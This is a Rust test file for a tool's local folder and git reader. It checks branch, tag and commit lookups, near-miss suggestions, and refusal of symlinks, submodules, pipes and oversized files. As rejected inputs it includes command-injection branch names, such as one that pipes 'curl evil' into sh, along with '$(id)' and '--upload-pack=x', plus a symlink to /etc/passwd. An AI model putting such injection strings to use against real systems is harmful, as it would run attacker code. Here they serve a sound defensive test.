//! Folders of this machine, as local mode reads them.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;

use slipway_engine::gather::SourceReader;
use slipway_plan::{ConnectorPlan, Fetched, GitVersion};

use crate::support::{
    anonymous, branch, commit, connector, git, one, repository, shown, source, wanted, write,
};

const LIMIT: Duration = Duration::from_secs(20);

fn at(folder: &Path) -> ConnectorPlan {
    connector(&format!("file://{}", folder.display()), anonymous())
}

async fn read(folder: &Path, version: GitVersion, paths: &[&str]) -> Result<Fetched, String> {
    one(&source(true, LIMIT), wanted(&at(folder), version, paths)).await
}

#[tokio::test]
async fn a_repository_is_read_at_a_branch_a_tag_and_a_commit() {
    let folder = tempfile::tempdir().expect("a folder");
    let [first, second] = repository(folder.path());
    let task = "ecs/task.yaml";
    for (version, text, id) in [
        (branch("main"), "family: two", &second),
        (branch("release/2"), "family: two", &second),
        (commit("v1"), "family: one", &first),
        (commit(&first), "family: one", &first),
    ] {
        let found = read(folder.path(), version, &[task]).await.expect("a file");
        assert_eq!(shown(&found), format!("{task}={text}"));
        assert_eq!(found.commit.as_ref(), Some(id));
    }
    // A bare one too; a folder stands for its files, in the order of their paths, after what is named before it.
    let bare = tempfile::tempdir().expect("a folder");
    git(
        bare.path(),
        &[
            "clone",
            "-q",
            "--bare",
            &folder.path().display().to_string(),
            ".",
        ],
    );
    let paths = ["ecs-old/task.yaml", "ecs"];
    let found = read(bare.path(), branch("main"), &paths)
        .await
        .expect("files");
    assert_eq!(
        shown(&found),
        "ecs-old/task.yaml=family: old ecs/more/b.yaml=b: 1 ecs/service.yaml=serviceName: web ecs/task.yaml=family: two"
    );
    let all = read(bare.path(), branch("main"), &[""])
        .await
        .expect("files");
    assert_eq!(all.files.len(), 4);
}

#[tokio::test]
async fn what_is_not_there_is_told_with_the_nearest() {
    let folder = tempfile::tempdir().expect("a folder");
    let [first, _] = repository(folder.path());
    let missing = "c0ffee12".repeat(5);
    let table = [
        (
            branch("mian"),
            "ecs",
            "there is no branch `mian` in the repository",
        ),
        (
            branch("mian"),
            "ecs",
            "the nearest that exist: `main`, `release/2`",
        ),
        (
            commit("v2"),
            "ecs",
            "there is no tag or whole commit id `v2` in the repository",
        ),
        (commit("v2"), "ecs", "the nearest that exist: `v1`"),
        (
            commit(&first[..8]),
            "ecs",
            "there is no tag or whole commit id",
        ),
        (commit(&missing), "ecs", &missing),
        (
            branch("main"),
            "ecs/taks.yaml",
            "the nearest that exist: `ecs/task.yaml`",
        ),
        (
            branch("main"),
            "ecs/task.yaml/x",
            "there is no file or folder ecs/task.yaml/x",
        ),
        (
            branch("--upload-pack=x"),
            "ecs",
            "is no name of a branch or tag",
        ),
        (
            branch("main\";curl evil|sh;#"),
            "ecs",
            "is no name of a branch or tag",
        ),
        (branch("main\";curl|sh;#"), "ecs", "there is no branch"),
        (branch("$(id)"), "ecs", "there is no branch"),
        (branch("../../HEAD"), "ecs", "is no name of a branch or tag"),
    ];
    for (version, path, expected) in table {
        let shown = format!("{version:?} {path}");
        let why = read(folder.path(), version, &[path])
            .await
            .expect_err(&shown);
        assert!(why.contains(expected), "{shown}: {why}");
    }
    let gone = read(Path::new("/no/such/folder"), branch("main"), &["a"]).await;
    assert!(
        gone.expect_err("nothing")
            .contains("does not exist on this machine")
    );
}

#[tokio::test]
async fn links_and_submodules_are_refused_by_name() {
    let other = tempfile::tempdir().expect("a folder");
    repository(other.path());
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path();
    git(path, &["init", "-q"]);
    write(path, "plain/a.yaml", "a: 1");
    symlink("/etc/passwd", path.join("passwd")).expect("a link");
    symlink("plain", path.join("folder")).expect("a link");
    std::fs::create_dir(path.join("deep")).expect("a folder");
    symlink("../deep", path.join("deep/loop")).expect("a link");
    git(
        path,
        &[
            "submodule",
            "add",
            "-q",
            &other.path().display().to_string(),
            "module",
        ],
    );
    git(path, &["add", "."]);
    git(path, &["commit", "-qm", "links"]);
    let table = [
        ("passwd", "passwd of the repository", "is a symbolic link"),
        ("folder", "folder of the repository", "is a symbolic link"),
        (
            "folder/a.yaml",
            "there is no file or folder folder/a.yaml",
            "`plain/a.yaml`",
        ),
        ("deep", "deep/loop of the repository", "is a symbolic link"),
        ("module", "module of the repository", "is a submodule"),
    ];
    for (name, expected, more) in table {
        let why = read(path, branch("main"), &[name]).await.expect_err(name);
        assert!(
            why.contains(expected) && why.contains(more),
            "{name}: {why}"
        );
    }
}

#[tokio::test]
async fn a_folder_that_is_no_repository_is_read_as_it_lies() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path();
    write(path, "ecs/task.yaml", "family: here");
    write(path, "logo.png", [0x89, 0xff]);
    symlink("/etc/passwd", path.join("passwd")).expect("a link");
    symlink("/etc", path.join("etc")).expect("a link");
    let pipe = std::process::Command::new("mkfifo")
        .arg(path.join("pipe"))
        .status();
    assert!(pipe.expect("mkfifo runs").success());
    let found = read(path, branch("main"), &["ecs"]).await.expect("files");
    assert_eq!(shown(&found), "ecs/task.yaml=family: here");
    assert_eq!(found.commit, None);
    for (name, expected) in [
        ("passwd", "is a symbolic link"),
        ("etc/passwd", "there is no file or folder etc/passwd"),
        ("pipe", "is neither a file nor a folder"),
        ("logo.png", "is no text in UTF-8"),
        ("../x", "there is no file or folder ../x"),
    ] {
        let why = read(path, branch("main"), &[name]).await.expect_err(name);
        assert!(why.contains(expected), "{name}: {why}");
    }
}

#[tokio::test]
async fn too_much_is_refused_before_it_is_read() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path();
    for number in 0..501 {
        write(path, &format!("many/{number}.yaml"), "a: 1");
    }
    // 3 GB of nothing: it takes no space, and must take no time.
    let huge = std::fs::File::create(path.join("huge.yaml")).expect("a file");
    huge.set_len(3 << 30).expect("a size");
    let many = read(path, branch("main"), &["many"])
        .await
        .expect_err("too many");
    assert!(many.contains("more than 500 files"), "{many}");
    let huge = read(path, branch("main"), &["huge.yaml"])
        .await
        .expect_err("too large");
    assert!(huge.contains("3221225472 bytes"), "{huge}");

    let folder = tempfile::tempdir().expect("a folder");
    git(folder.path(), &["init", "-q"]);
    write(folder.path(), "large.yaml", vec![b'a'; (8 << 20) + 1]);
    write(folder.path(), "small.yaml", "a: 1");
    git(folder.path(), &["add", "."]);
    git(folder.path(), &["commit", "-qm", "large"]);
    let large = read(folder.path(), branch("main"), &["large.yaml"]).await;
    assert!(large.expect_err("too large").contains("8388609 bytes"));
    let small = read(folder.path(), branch("main"), &["small.yaml"]).await;
    assert!(small.is_ok(), "{small:?}");
}

#[tokio::test]
async fn a_process_that_others_can_reach_reads_no_local_files() {
    let folder = tempfile::tempdir().expect("a folder");
    repository(folder.path());
    let connector = at(folder.path());
    let source = source(false, LIMIT);
    let why = one(&source, wanted(&connector, branch("main"), &["ecs"])).await;
    let why = why.expect_err("a refusal");
    assert!(
        why.contains("the connector account.code cannot be used"),
        "{why}"
    );
    assert!(why.contains("only `slipway local`"), "{why}");
}

#[tokio::test]
async fn questions_are_answered_in_their_order_and_a_bad_one_harms_no_other() {
    let folder = tempfile::tempdir().expect("a folder");
    let [first, second] = repository(folder.path());
    let code = at(folder.path());
    let questions = [
        wanted(&code, branch("main"), &["ecs/task.yaml"]),
        wanted(&code, commit("v1"), &["ecs/task.yaml"]),
        wanted(&code, branch("main"), &["no.yaml"]),
        wanted(&code, branch("main"), &["ecs/service.yaml"]),
        wanted(&code, branch("gone"), &["ecs"]),
    ];
    let found = source(true, LIMIT).fetch_files(&questions).await;
    let told: Vec<String> = found
        .iter()
        .map(|found| match found {
            Ok(found) => format!(
                "{} {}",
                found.commit.as_deref().unwrap_or("-"),
                shown(found)
            ),
            Err(why) => why.split(" in ").next().unwrap_or_default().to_owned(),
        })
        .collect();
    assert_eq!(
        told,
        [
            format!("{second} ecs/task.yaml=family: two"),
            format!("{first} ecs/task.yaml=family: one"),
            "there is no file or folder no.yaml".to_owned(),
            format!("{second} ecs/service.yaml=serviceName: web"),
            "there is no branch `gone`".to_owned(),
        ]
    );
}
